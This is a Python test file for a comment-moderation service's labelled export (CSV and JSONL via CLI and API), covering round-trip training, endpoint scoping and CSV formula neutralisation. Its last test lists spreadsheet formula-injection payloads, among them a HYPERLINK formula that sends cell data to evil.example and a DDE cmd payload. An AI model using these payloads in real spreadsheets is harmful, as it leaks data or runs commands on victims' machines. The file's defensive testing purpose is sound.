"""Labelled export: CLI and endpoints produce exactly what training.data.load_labelled_export reads; round trip
export -> load -> train a tiny bundle with the models' estimators -> the bundle scores like its labels ->
`moderation evaluate --labelled` reads the same file. (`moderation train --labelled`: test_retrain.py.)"""
import json

import numpy as np
import pytest
from click.testing import CliRunner
from sqlalchemy import select

from review_helpers import add_held, add_user, login, review_config
from service.cli import main
from service.db import db_session
from review_helpers import database_url  # noqa: F401  (fixture: SQLite, and PostgreSQL in a throw-away schema)
from service.review import actions
from service.review.tables import User
from training.data import load_labelled_export


@pytest.fixture
def app_config(tmp_path, database_url):  # noqa: F811  (SQLite and PostgreSQL)
    return review_config(tmp_path, DATABASE_URL=database_url)


def decide(app, pk, action, **labels):
    with app.app_context():
        user = db_session().scalars(select(User)).first()
        actions.record_decision(db_session(), app.config, pk, action, user=user, **labels)


def run_export(app, app_config, monkeypatch, tmp_path, *args):
    app.extensions["db"]["engine"].dispose()
    monkeypatch.setenv("MODERATION_DATABASE_URL", app_config["DATABASE_URL"])
    result = CliRunner().invoke(main, ["export", *args])
    assert result.exit_code == 0, result.output
    return result


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_cli_export_reads_back_without_errors(app, app_config, monkeypatch, tmp_path, fmt):
    hostile = 'He said "no",\nthen =cmd| \u00e9\u00e8 <b>'   # quotes, comma, newline, formula-ish, non-ASCII
    a = add_held(app, 1, text=hostile, reasons=("abusive",))[0]
    b = add_held(app, 1, text="buy cheap watches {i}", reasons=("spam",))[0]
    c = add_held(app, 1, text="a fair point {i}", reasons=("abusive",))[0]
    add_held(app, 1, text="still waiting {i}")   # undecided: not exported
    add_user(app, "mia")
    decide(app, a, "reject")
    decide(app, b, "reject", abusive=False)
    decide(app, c, "approve")
    out = tmp_path / f"labels.{fmt}"
    result = run_export(app, app_config, monkeypatch, tmp_path, "--format", fmt, "-o", str(out))
    assert "exported 3 labelled comment(s)" in result.output
    df, errors = load_labelled_export(out)
    assert errors == []
    got = {r.text: (r.abusive, r.off_topic, r.spam, r.article_title, r.article_body) for r in df.itertuples()}
    title, body = "Council votes on the new bridge", "The council voted 7-2 for the bridge."
    assert got == {hostile: (1, 0, 0, title, body), "buy cheap watches 0": (0, 1, 1, title, body),
                   "a fair point 0": (0, 0, 0, title, body)}
    assert set(df["group"]) == {"export:test-site:a1"}


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_moderators_spam_label_reaches_the_export_and_the_spam_head_rows(app, app_config, monkeypatch, tmp_path,
                                                                          fmt):
    from sqlalchemy import update

    from service.review.tables import Decision
    from training.train import labelled_spam_rows, load_labelled
    missed = add_held(app, 1, text="visit kwikloans dot biz {i}", reasons=("off_topic",))[0]   # not held as spam
    fine = add_held(app, 1, text="a fair point {i}", reasons=("abusive",))[0]
    old = add_held(app, 1, text="cheap watches here {i}", reasons=("spam",))[0]
    add_user(app, "mia")
    decide(app, missed, "reject", spam=True)
    decide(app, fine, "approve")
    decide(app, old, "reject")
    with app.app_context():   # a decision made before the spam label existed (migration 0009): NULL
        db_session().execute(update(Decision).where(Decision.comment_pk == old).values(spam=None))
        db_session().commit()
    out = tmp_path / f"labels.{fmt}"
    run_export(app, app_config, monkeypatch, tmp_path, "--format", fmt, "-o", str(out))
    lab, _ = load_labelled([out])
    got = {r.text: (r.abusive, r.off_topic, r.spam) for r in lab.itertuples()}
    assert got["visit kwikloans dot biz 0"] == (0, 1, 1) and got["a fair point 0"] == (0, 0, 0)
    assert got["cheap watches here 0"][:2] == (0, 1) and np.isnan(got["cheap watches here 0"][2])
    spam = labelled_spam_rows(lab)
    assert dict(zip(spam.text, spam.label)) == {"visit kwikloans dot biz 0": 1, "a fair point 0": 0}


def test_since_filter_and_latest_decision_wins(app, app_config, monkeypatch, tmp_path, api_key):
    pk, = add_held(app, 1)
    add_user(app, "mia")
    decide(app, pk, "approve")
    client = app.test_client()
    # the CMS overrules the moderator: the export carries the correction
    response = client.post("/v1/feedback", headers={"X-API-Key": api_key},
                           json={"comment_id": "c1", "type": "correction", "decision": "reject", "abusive": True})
    assert response.status_code == 200 and response.get_json()["status"] == "rejected"
    out = tmp_path / "x.jsonl"
    run_export(app, app_config, monkeypatch, tmp_path, "-o", str(out))
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert [(r["id"], r["abusive"], r["off_topic"]) for r in rows] == [("test-site:c1", 1, 0)]
    run_export(app, app_config, monkeypatch, tmp_path, "--since", "2999-01-01", "-o", str(out))
    assert out.read_text() == ""
    bad = CliRunner().invoke(main, ["export", "--since", "last week"])
    assert bad.exit_code != 0 and "date like" in bad.output


def test_export_endpoints_are_scoped_and_validated(app, client, api_key):
    mine, = add_held(app, 1, text="mine {i}")
    theirs, = add_held(app, 1, site="other-site", text="theirs {i}")
    add_user(app, "boss", role="admin")
    decide(app, mine, "reject")
    decide(app, theirs, "reject")
    response = client.get("/v1/export?format=jsonl", headers={"Authorization": f"Bearer {api_key}"})
    assert response.status_code == 200 and response.mimetype == "application/x-ndjson"
    assert [json.loads(x)["text"] for x in response.get_data(as_text=True).splitlines()] == ["mine 0"]
    assert client.get("/v1/export").status_code == 401
    bad = client.get("/v1/export?format=xml", headers={"X-API-Key": api_key})
    assert bad.status_code == 422 and bad.get_json()["error"]["field"] == "format"
    assert client.get("/v1/export?since=soon", headers={"X-API-Key": api_key}).status_code == 422
    login(client, "boss")
    every = client.get("/review/export?format=csv").get_data(as_text=True)
    assert every.splitlines()[0] == "id,text,article_id,article_title,article_body,abusive,off_topic,spam,reasons"
    assert "mine 0" in every and "theirs 0" in every
    with app.app_context():
        from service.review.tables import AuditEntry
        entry = db_session().scalars(select(AuditEntry).where(AuditEntry.action == "export")).one()
        assert entry.username == "boss" and entry.details["format"] == "csv"


@pytest.mark.slow
@pytest.mark.model
def test_round_trip_export_load_train_score(app, app_config, monkeypatch, tmp_path):
    if not app_config["DATABASE_URL"].startswith("sqlite"):
        pytest.skip("training is database-independent: the round trip runs once, on SQLite")
    import models
    from models.offtopic import pairs
    # every template names someone (a capitalised word): the off-topic model's entity features need one
    rude = ["you stupid idiot Smith {i}", "shut up moron Jones {i}", "what an idiot you are Smith {i}",
            "moron, total idiot Jones {i}"]
    kind = ["thanks for the report on the Council bridge {i}", "the Council vote on the bridge was close {i}",
            "good article about the bridge, Smith {i}", "the bridge will help traffic in Leeds {i}"]
    spam = ["buy cheap watches online at Watchy {i}", "visit my channel for free Bitcoin {i}"]
    add_user(app, "mia")
    for template in rude:
        for pk in add_held(app, 5, text=template, reasons=("abusive",)):
            decide(app, pk, "reject")
    for template in kind:
        for pk in add_held(app, 5, text=template, reasons=("abusive",)):
            decide(app, pk, "approve")
    for template in spam:
        for pk in add_held(app, 5, text=template, reasons=("spam",)):
            decide(app, pk, "reject")
    out = tmp_path / "labels.csv"
    run_export(app, app_config, monkeypatch, tmp_path, "--format", "csv", "-o", str(out))
    df, errors = load_labelled_export(out)
    assert errors == [] and len(df) == 50 and df["abusive"].sum() == 20 and df["off_topic"].sum() == 10

    abuse = models.AbuseClassifier(use_embeddings=False).fit(df["text"], df["abusive"])
    articles = [{"title": t, "body": b} for t, b in zip(df["article_title"], df["article_body"])]
    # with its encoder (use_embeddings=False works too since all-NaN columns are ignored: test_retrain.py)
    off_topic = models.OffTopicClassifier().fit(pairs(df["text"], articles), df["off_topic"])
    models.Bundle(abuse=abuse, off_topic=off_topic, metadata={"version": "from-export"}).save(tmp_path / "b")
    bundle = models.load_bundle(tmp_path / "b")
    article = {"title": "Council votes on the new bridge", "body": "The council voted 7-2 for the bridge."}
    rude_score = bundle.score("you total idiot moron", article=article)
    kind_score = bundle.score("thanks, the bridge vote report was good", article=article)
    assert bundle.version == "from-export"
    assert rude_score.abusive > 0.5 > kind_score.abusive

    # and `moderation evaluate` reads the same export file against that bundle
    report = tmp_path / "eval"
    result = CliRunner().invoke(main, ["evaluate", "--labelled", str(out), "--no-public", "--bundle",
                                       str(tmp_path / "b"), "--output", str(report), "--obfuscated", "0",
                                       "--span-posts", "0"])
    assert result.exit_code == 0, result.output
    assert "| labels.csv (abusive) | human | 50 (20) |" in (report / "report.md").read_text()   # rows (abusive)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", "'already quoted", "plain text"]


def test_csv_export_neutralises_formulas_and_jsonl_is_unchanged(app, app_config, monkeypatch, tmp_path, client):
    import csv
    import io
    pks = [add_held(app, 1, text=text)[0] for text in FORMULAS]
    add_user(app, "boss", role="admin")
    for pk in pks:
        decide(app, pk, "reject")
    login(client, "boss")
    sheet = list(csv.DictReader(io.StringIO(client.get("/review/export?format=csv").get_data(as_text=True),
                                            newline="")))
    cells = [value for row in sheet for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell a spreadsheet would run"
    assert [row["text"] for row in sheet] == ["'" + t for t in FORMULAS[:-1]] + ["plain text"]
    lines = client.get("/review/export?format=jsonl").get_data(as_text=True).splitlines()
    assert [json.loads(line)["text"] for line in lines] == FORMULAS
    # and training reads the original texts back from the CSV
    out = tmp_path / "labels.csv"
    run_export(app, app_config, monkeypatch, tmp_path, "--format", "csv", "-o", str(out))
    df, errors = load_labelled_export(out)
    assert errors == [] and list(df["text"]) == FORMULAS
